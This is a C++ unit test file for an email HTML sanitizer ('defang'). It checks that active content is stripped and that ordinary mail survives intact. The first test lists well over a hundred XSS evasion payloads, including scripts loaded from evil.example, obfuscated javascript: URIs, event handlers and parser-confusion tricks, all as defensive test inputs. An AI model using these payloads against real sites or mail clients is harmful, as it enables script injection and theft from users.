#include "filters/defang/html_defang.h"

#include <gtest/gtest.h>

#include <string>
#include <string_view>
#include <vector>

#include "filters/defang/harmless_html.h"
#include "filters/defang/second_reader.h"
#include "tests/support/chop.h"

namespace gatepost::filters {
namespace {

/// Defanged, and what must be true of every result.
std::string defanged(std::string_view html, const DefangOptions& options = {}) {
  const Defanged once = defang_html(html, options);
  EXPECT_TRUE(reads_as_harmless(once.html)) << html << "\n" << once.html;
  const Defanged twice = defang_html(once.html, options);
  EXPECT_EQ(twice.html, once.html) << html;
  EXPECT_FALSE(twice.removed.any()) << html << "\n" << once.html << "\n" << twice.removed.text();
  return once.html;
}

std::string removed(std::string_view html, const DefangOptions& options = {}) {
  return defang_html(html, options).removed.text();
}

DefangOptions showing_links() {
  DefangOptions options;
  options.links = DefangOptions::Links::show;
  return options;
}

TEST(HtmlDefang, nothing_that_attacks_is_left) {
  // Much of it is known from the "XSS filter evasion cheat sheet" of OWASP.
  const std::vector<std::string_view> attacks = {
      "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
      "<script>alert(1)</script >",
      "<scr<script>ipt>alert(1)</scr</script>ipt>",
      "<<SCRIPT>alert(1);//\\<</SCRIPT>",
      "<SCRIPT/XSS SRC=\"https://evil.example/xss.js\"></SCRIPT>",
      "<SCRIPT/SRC=\"https://evil.example/xss.js\"></SCRIPT>",
      "<script\x0c>alert(1)</script>",
      "<script>alert(1)",
      "<script src=https://evil.example/x.js",
      "<SCRIPT a=\">\" '' SRC=\"https://evil.example/x.js\"></SCRIPT>",
      "<SCRIPT \"a='>'\" SRC=\"https://evil.example/x.js\"></SCRIPT>",
      "<SCRIPT a=`>` SRC=\"https://evil.example/x.js\"></SCRIPT>",
      "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
      "<IMG SRC=\"javascript:alert(1);\">",
      "<IMG SRC=JaVaScRiPt:alert(1)>",
      "<IMG SRC=`javascript:alert(\"x\")`>",
      "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
      "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
      "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105>",
      "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61>",
      "<IMG SRC=\"jav\tascript:alert(1);\">",
      "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
      "<IMG SRC=\"jav&#x0D;ascript:alert(1);\">",
      "<IMG SRC=\" &#14;  javascript:alert(1);\">",
      "<IMG SRC=\"java&Tab;script&colon;alert(1)\">",
      "<IMG SRC=\"vbscript:msgbox(1)\">",
      "<IMG SRC=\"livescript:x\">",
      "<IMG DYNSRC=\"javascript:alert(1)\"><IMG LOWSRC=\"javascript:alert(1)\">",
      "<img src=x onerror=alert(1)//",
      "<img src=cid:1 onerror\n=\nalert(1)>",
      "<img src=cid:1/onerror=alert(1)>",
      "<img/src=cid:1/onerror=alert(1)>",
      "<img src='cid:1'onerror='alert(1)'>",
      "<img src=cid:1 alt=\"``onerror=alert(1)\">",
      "<image src=x onerror=alert(1)>",
      "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"java\nscript:alert(1)\">x</a>",
      "<a href=\"\x01javascript:alert(1)\">x</a>",
      "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
      "<a href=\"data:image/svg+xml;base64,PHN2Zz4=\">x</a>",
      "<a href=\"feed:javascript:alert(1)\">x</a>",
      "<a href=\"file:///c:/x\">x</a>",
      "<a href=\"\\\\evil.example\\share\">x</a>",
      "<a href=\"//evil.example/x\">x</a>",
      "<a href=https://x.example onmouseover=alert(1)>x</a>",
      "<a href=https://x.example onclick\x0b=alert(1)>x</a>",
      "<BODY ONLOAD=alert(1)>",
      "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
      "<BODY BACKGROUND=\"javascript:alert(1)\">",
      "<TABLE><TD BACKGROUND=\"javascript:alert(1)\">",
      "<BGSOUND SRC=\"javascript:alert(1);\">",
      "<BR SIZE=\"&{alert('XSS')}\">",
      "<p title=\"&{alert('XSS')};\">",
      "<LINK REL=\"stylesheet\" HREF=\"javascript:alert(1);\">",
      "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
      "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
      "<STYLE>li {list-style-image: url(\"javascript:alert(1)\");}</STYLE><UL><LI>x",
      "<STYLE>BODY{-moz-binding:url(\"https://evil.example/x.xml#xss\")}</STYLE>",
      "<STYLE>.x{background-image:url(\"javascript:alert(1)\");}</STYLE><A CLASS=x></A>",
      "<style>p{color:red}</style><script>x</script>",
      "<style>p{font-family:'</style><img src=x onerror=alert(1)>'}</style>",
      "<XSS STYLE=\"behavior: url(xss.htc);\">",
      "<p style=\"behavior:url(#default#time2)\" onbegin=alert(1)>",
      "<IMG STYLE=\"xss:expr/*XSS*/ession(alert(1))\">",
      "<DIV STYLE=\"width: expression(alert(1));\">",
      "<DIV STYLE=\"width:exp\\72 ession(alert(1))\">",
      "<DIV STYLE=\"width:\xef\xbd\x85xpression(alert(1))\">",
      "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'x'\\0029\">",
      "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
      "<div style=\"color:red&#x3b;background:u&#x72;l(https://evil.example/)\">x</div>",
      "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert(1);\">",
      "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=x\">",
      "<META HTTP-EQUIV=\"Link\" Content=\"<https://evil.example/x.css>; REL=stylesheet\">",
      "<HEAD><META HTTP-EQUIV=\"CONTENT-TYPE\" CONTENT=\"text/html; charset=UTF-7\"> </HEAD>",
      "<BASE HREF=\"javascript:alert(1);//\">",
      "<IFRAME SRC=\"javascript:alert(1);\"></IFRAME>",
      "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
      "<iframe src=https://evil.example/ <B>x",
      "<FRAMESET><FRAME SRC=\"javascript:alert(1);\"></FRAMESET>",
      "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/x.html\"></OBJECT>",
      "<OBJECT classid=clsid:ae24fdae><param name=url value=javascript:alert(1)></OBJECT>",
      "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" AllowScriptAccess=\"always\"></EMBED>",
      "<applet code=X archive=https://evil.example/x.jar></applet>",
      "<svg onload=alert(1)>",
      "<svg/onload=alert(1)//",
      "<svg><script>alert&#40;1)</script></svg>",
      "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
      "<svg><style><img src=x onerror=alert(1)></style></svg>",
      "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
      "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
      "onerror=alert(1)&gt;\">",
      "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
      "<math href=\"javascript:alert(1)\">x</math>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
      "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
      "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
      "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
      "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
      "<plaintext><script>alert(1)</script>",
      "<template><script>alert(1)</script></template>",
      "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
      "<table><caption><svg><title><style><img src=x onerror=alert(1)>",
      "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)></form>",
      "<isindex action=javascript:alert(1) type=image>",
      "<input onfocus=alert(1) autofocus>",
      "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
      "<details open ontoggle=alert(1)>x</details>",
      "<marquee onstart=alert(1)>x</marquee>",
      "<xml id=x><i><b>&lt;img src=x onerror=alert(1)&gt;</b></i></xml>"
      "<span datasrc=#x datafld=b dataformatas=html></span>",
      "<html xmlns:t=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
      "implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"x\">",
      "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->",
      "<!--[if mso]><img src=x onerror=alert(1)><![endif]-->",
      "<![if gte IE 4]><script>alert(1)</script><![endif]>",
      "<!--><img src=x onerror=alert(1)>-->",
      "<!-- --!><img src=x onerror=alert(1)>-->",
      "<!-- <img src=x onerror=alert(1)> ",
      "<! foo=\"><script>alert(1)</script>\">",
      "</ foo=\"><script>alert(1)</script>\">",
      "<? foo=\"><script>alert(1)</script>\">",
      "<% foo><img src=x onerror=alert(1)> %>",
      "<![CDATA[<script>alert(1)</script>]]>",
      "<!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]>&e;",
      "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
      "<a style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">x</a>",
      "<p id=x style=\"filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')\">x</p>",
  };
  for (const std::string_view attack : attacks) {
    const std::string html = defanged(attack);
    EXPECT_TRUE(defang_html(attack, {}).removed.any()) << attack << "\n" << html;
    for (const std::string_view word :
         {"<script", "onerror=\"", "onload=\"", "javascript:alert(1)\"", "<iframe", "<svg", "<!--",
          "utf-7", "UTF-7", "<form", "behavior", "evil.example/"}) {
      EXPECT_EQ(html.find(word), std::string::npos) << attack << "\n" << html;
    }
    // Nor inside of something else, or with zeros in it.
    static_cast<void>(defanged("<table><tr><td><p>" + std::string(attack) + "<div>"));
    std::string zeros;
    for (const char c : attack) zeros += std::string("\0", 1) + c;
    static_cast<void>(defanged(zeros));
  }
}

TEST(HtmlDefang, what_is_harmless_is_said_to_be) {
  const std::vector<std::string_view> mails = {
      "Hello",
      "",
      "a < b && c > d &amp; &eacute; &#8364; \xe2\x82\xac",
      "<p>One<p>Two<br>three<hr>",
      "<!DOCTYPE HTML PUBLIC \"-//W3C//DTD HTML 4.01 Transitional//EN\" "
      "\"http://www.w3.org/TR/html4/loose.dtd\">\r\n<html><head>\r\n"
      "<meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\r\n"
      "<title>Hi</title><style type=\"text/css\"><!--\np, td {color: #333; font: 12px Arial}\n"
      "@media only screen and (max-width: 600px) { .x > p { width: 100% !important } }\n"
      "--></style></head><body bgcolor=\"#ffffff\" text=black>\r\n"
      "<table width=100% border=0 cellpadding=\"0\"><tr><td align=center style=\"padding: 4px; "
      "font-family: 'Segoe UI', Arial\"><font face=\"Arial, sans-serif\" color=\"red\" size=2>Hi"
      "</font></td></tr></table></body></html>",
      "<a href=\"https://example.org/a?b=1&amp;c=2\" target=\"_blank\">x</a>",
      "<a href=\"mailto:joe@example.org?subject=x\">m</a><a href=tel:+49123>t</a><a href='#x'>",
      "<img src=\"cid:part1@example.org\" alt=\"A picture\" width=10 height=20>",
      "<img src=\"data:image/png;base64,iVBORw0KGgo=\">",
      "<blockquote type=\"cite\" class=\"gmail_quote\" style=\"margin:0 0 0 .8ex;border-left:1px "
      "#ccc solid;padding-left:1ex\">quoted</blockquote>",
      "<!-- a comment -->text<ul><li>1<li>2</ul><dl><dt>a<dd>b</dl>",
      "<p data-x=\"1\" aria-label=\"y\" unknown>x</p>",
  };
  for (const std::string_view mail : mails) {
    EXPECT_EQ(removed(mail), "") << mail;
    EXPECT_TRUE(reads_as_harmless(defanged(mail)));
  }
}

TEST(HtmlDefang, a_mail_stays_usable) {
  EXPECT_EQ(
      defanged("<HTML><BODY BGCOLOR=#FFF ONLOAD=x()><P>Hi<P ALIGN=center>you<script>1</script>"
               "</BODY></HTML>"),
      "<html><body bgcolor=\"#FFF\"><p>Hi</p><p align=\"center\">you</p></body></html>");
  EXPECT_EQ(defanged("<table><tr><td>1<td>2<tr><th>3</table>after"),
            "<table><tr><td>1</td><td>2</td></tr><tr><th>3</th></tr></table>after");
  EXPECT_EQ(defanged("<table><td>1<table><td>2</table>3</table>"),
            "<table><tr><td>1<table><tr><td>2</td></tr></table>3</td></tr></table>");
  EXPECT_EQ(defanged("<ul><li>a<ul><li>b</ul><li>c</ul>"),
            "<ul><li>a<ul><li>b</li></ul></li><li>c</li></ul>");
  EXPECT_EQ(defanged("<b>1<div>2</b>3</div>4"), "<b>1<div>23</div></b>4");
  EXPECT_EQ(defanged("<form>Name: <input name=n><select><option>A<option>B</select></form>"),
            "Name:  A B");
  EXPECT_EQ(defanged("<p style=\"color:red;background:url(x);margin:0\">x</p>"),
            "<p style=\"color:red;margin:0\">x</p>");
  EXPECT_EQ(defanged("a\nb\rc\r\nd"), "a\r\nb\r\nc\r\nd");
  EXPECT_EQ(defanged("</div></p></td></table>x</body>y"), "xy");
  EXPECT_EQ(defanged("<xmp><b>&amp;</xmp>"), "<pre>&lt;b&gt;&amp;amp;</pre>");
}

TEST(HtmlDefang, remote_images_give_way_to_their_text) {
  const std::string_view mail =
      "<body background=http://x.example/b.gif><img src=\"https://x.example/a.png?id=1\" alt=\"A "
      "&amp; "
      "B\"><img src=http://x.example/pixel.gif>";
  EXPECT_EQ(defanged(mail), "<body>A &amp; B</body>");
  EXPECT_EQ(removed(mail), "3 remote images");
  DefangOptions keep;
  keep.remote_images = DefangOptions::RemoteImages::keep;
  EXPECT_EQ(defanged(mail, keep),
            "<body background=\"http://x.example/b.gif\"><img src=\"https://x.example/a.png?id=1\" "
            "alt=\"A &amp; B\"><img src=\"http://x.example/pixel.gif\"></body>");
  EXPECT_EQ(removed(mail, keep), "");
}

TEST(HtmlDefang, shows_where_links_lead) {
  const DefangOptions show = showing_links();
  EXPECT_EQ(defanged("<a href=\"http://evil.example/x?a&amp;b\">bank.example</a>", show),
            "<a href=\"http://evil.example/x?a&amp;b\">bank.example [http://evil.example/x?a&amp;b]"
            "</a>");
  // The name before the "@" is not where it leads; other scripts stay punycode.
  EXPECT_EQ(defanged("<a href=\"https://bank.example@xn--bnk-sna.example/\">x</a>", show),
            "<a href=\"https://bank.example@xn--bnk-sna.example/\">x [https://xn--bnk-sna.example/]"
            "</a>");
  for (const std::string_view same :
       {"<a href=\"https://example.org/\">example.org</a>", "<a href=\"mailto:x@y\">z</a>",
        "<a href=\"https://example.org/\"> <b>HTTPS://</b>example.org/ </a>",
        "<a href=\"https://e.org/?a&amp;b\">https://e.org/?a&amp;b</a>", "<a name=x>y</a>"}) {
    EXPECT_EQ(removed(same, show), "") << same;
  }
  const std::string far = "https://example.org/" + std::string(1000, 'x');
  const std::string html = defanged("<a href=\"" + far + "\">x</a>", show);
  EXPECT_NE(html.find(" [https://example.org/xxx"), std::string::npos);
  EXPECT_LT(html.size(), far.size() + 200);
}

TEST(HtmlDefang, can_be_ascii) {
  DefangOptions ascii;
  ascii.ascii = true;
  EXPECT_EQ(defanged("<p title=\"ä\">\xe2\x82\xac\xf0\x9f\x98\x80</p>", ascii),
            "<p title=\"&#228;\">&#8364;&#128512;</p>");
}

TEST(HtmlDefang, counts_what_goes) {
  EXPECT_EQ(
      removed("<script></script><p onclick=x><form><iframe></iframe>"
              "<a href=javascript:x><p style=behavior:x><!--[if x]><![endif]--><o:p></o:p><base>"),
      "2 scripts, 1 form, 1 object, 1 address, 1 style, 1 comment, 2 others");
  EXPECT_EQ(removed(""), "");
}

TEST(HtmlDefang, has_a_limit_for_depth_and_time) {
  std::string deep;
  for (int i = 0; i < 20'000; ++i) deep += "<div><b>";
  deep += "text";
  const Defanged flat = defang_html(deep, {});
  EXPECT_TRUE(flat.removed.any());
  EXPECT_LT(flat.html.size(), kMaxHtmlDepth * 20);
  EXPECT_NE(flat.html.find("text"), std::string::npos);
  EXPECT_FALSE(defang_html(deep.substr(0, 8 * kMaxHtmlDepth / 2), {}).removed.any());
  static_cast<void>(defanged(deep));

  constexpr std::size_t size = ::gatepost::testing::kSlowBuild ? 25'000 : 100'000;
  for (const std::string_view piece : {"<",
                                       "</",
                                       "<!--",
                                       "<a ",
                                       "<a b=",
                                       "a=1 ",
                                       "&",
                                       "&#",
                                       "<b><p>",
                                       "<table><td>",
                                       "<a><table>",
                                       "<table><b>",
                                       "<style>@x{}",
                                       "<style>}",
                                       "<style>a{",
                                       "<title>",
                                       "<!-- --",
                                       "<p><table>",
                                       "<img alt='<'>",
                                       "</p>",
                                       "<li>",
                                       "<dd><table>",
                                       "<b id=1><i id=2><p>",
                                       "<font><font>",
                                       "\"",
                                       "<a href=http://x>y</a>",
                                       "<td>",
                                       "<svg><p>",
                                       "<br>",
                                       "<tr>x"}) {
    std::string many = std::string(piece.starts_with("a=") ? "<p " : "");
    while (many.size() < size) many += piece;
    // Whoever looks at each of these for each of them does not come back before the test's time is
    // up.
    EXPECT_LE(defang_html(many, showing_links()).html.size(), kMaxDefanged) << piece;
  }
}

TEST(HtmlDefang, has_a_limit_for_its_result) {
  // Six octets for each of these.
  std::string text = "<p title='" + std::string(kMaxDefanged / 6, '"');
  EXPECT_TRUE(defang_html(text + "'>", {}).too_large);
  EXPECT_FALSE(defang_html(text.substr(0, kMaxDefanged / 60) + "'>", {}).too_large);
}

TEST(HtmlDefang, whatever_comes_is_harmless_afterwards) {
  const std::vector<std::string_view> pieces = {"<",
                                                ">",
                                                "\"",
                                                "'",
                                                "`",
                                                "=",
                                                "/",
                                                "!",
                                                "--",
                                                "-->",
                                                "<!--",
                                                "<!",
                                                "<?",
                                                "]]>",
                                                "&",
                                                "&#",
                                                ";",
                                                "a",
                                                "x ",
                                                "\n",
                                                "\t",
                                                "<b>",
                                                "</b>",
                                                "<p ",
                                                "<p>",
                                                "</p>",
                                                "<table>",
                                                "</table>",
                                                "<tr>",
                                                "<td>",
                                                "</td>",
                                                "<svg>",
                                                "</svg>",
                                                "<math>",
                                                "<style>",
                                                "</style>",
                                                "<script>",
                                                "</script>",
                                                "<title>",
                                                "</title>",
                                                "<textarea>",
                                                "<xmp>",
                                                "</xmp>",
                                                "<a href=",
                                                "http://x/",
                                                "javascript:x",
                                                "cid:1",
                                                "<img src=",
                                                " alt=",
                                                " onerror=",
                                                " style=",
                                                "color:red",
                                                "url(x)",
                                                "{",
                                                "}",
                                                "@media",
                                                "<html>",
                                                "<head>",
                                                "</head>",
                                                "<body ",
                                                "<meta charset=x>",
                                                "<li>",
                                                "<ul>",
                                                "</ul>",
                                                "<select>",
                                                "<template>",
                                                "<noscript>",
                                                "<font ",
                                                "<h1>",
                                                "</h1>",
                                                "<frameset>",
                                                "<form>",
                                                "<option>",
                                                "<br>",
                                                "</br>",
                                                "<caption>",
                                                "<col>",
                                                "<colgroup>",
                                                "<tbody>",
                                                "<a>",
                                                "</a>",
                                                "<nobr>",
                                                "<div>",
                                                "</div>",
                                                "<pre>",
                                                "<plaintext",
                                                "<image ",
                                                "\xc3\xa4",
                                                "<!DOCTYPE html>",
                                                "<dd>",
                                                "<map>"};
  testing::Random random;
  for (int i = 0; i < 1'000; ++i) {
    std::string html;
    const std::size_t count = random.between(1, 40);
    for (std::size_t j = 0; j < count; ++j) html += pieces[random.between(0, pieces.size() - 1)];
    DefangOptions options;
    if (random.between(0, 1) == 0) options = showing_links();
    static_cast<void>(defanged(html, options));
    if (::testing::Test::HasFailure()) FAIL() << testing::Random::name() << "\n" << html;
  }
}

}  // namespace
}  // namespace gatepost::filters
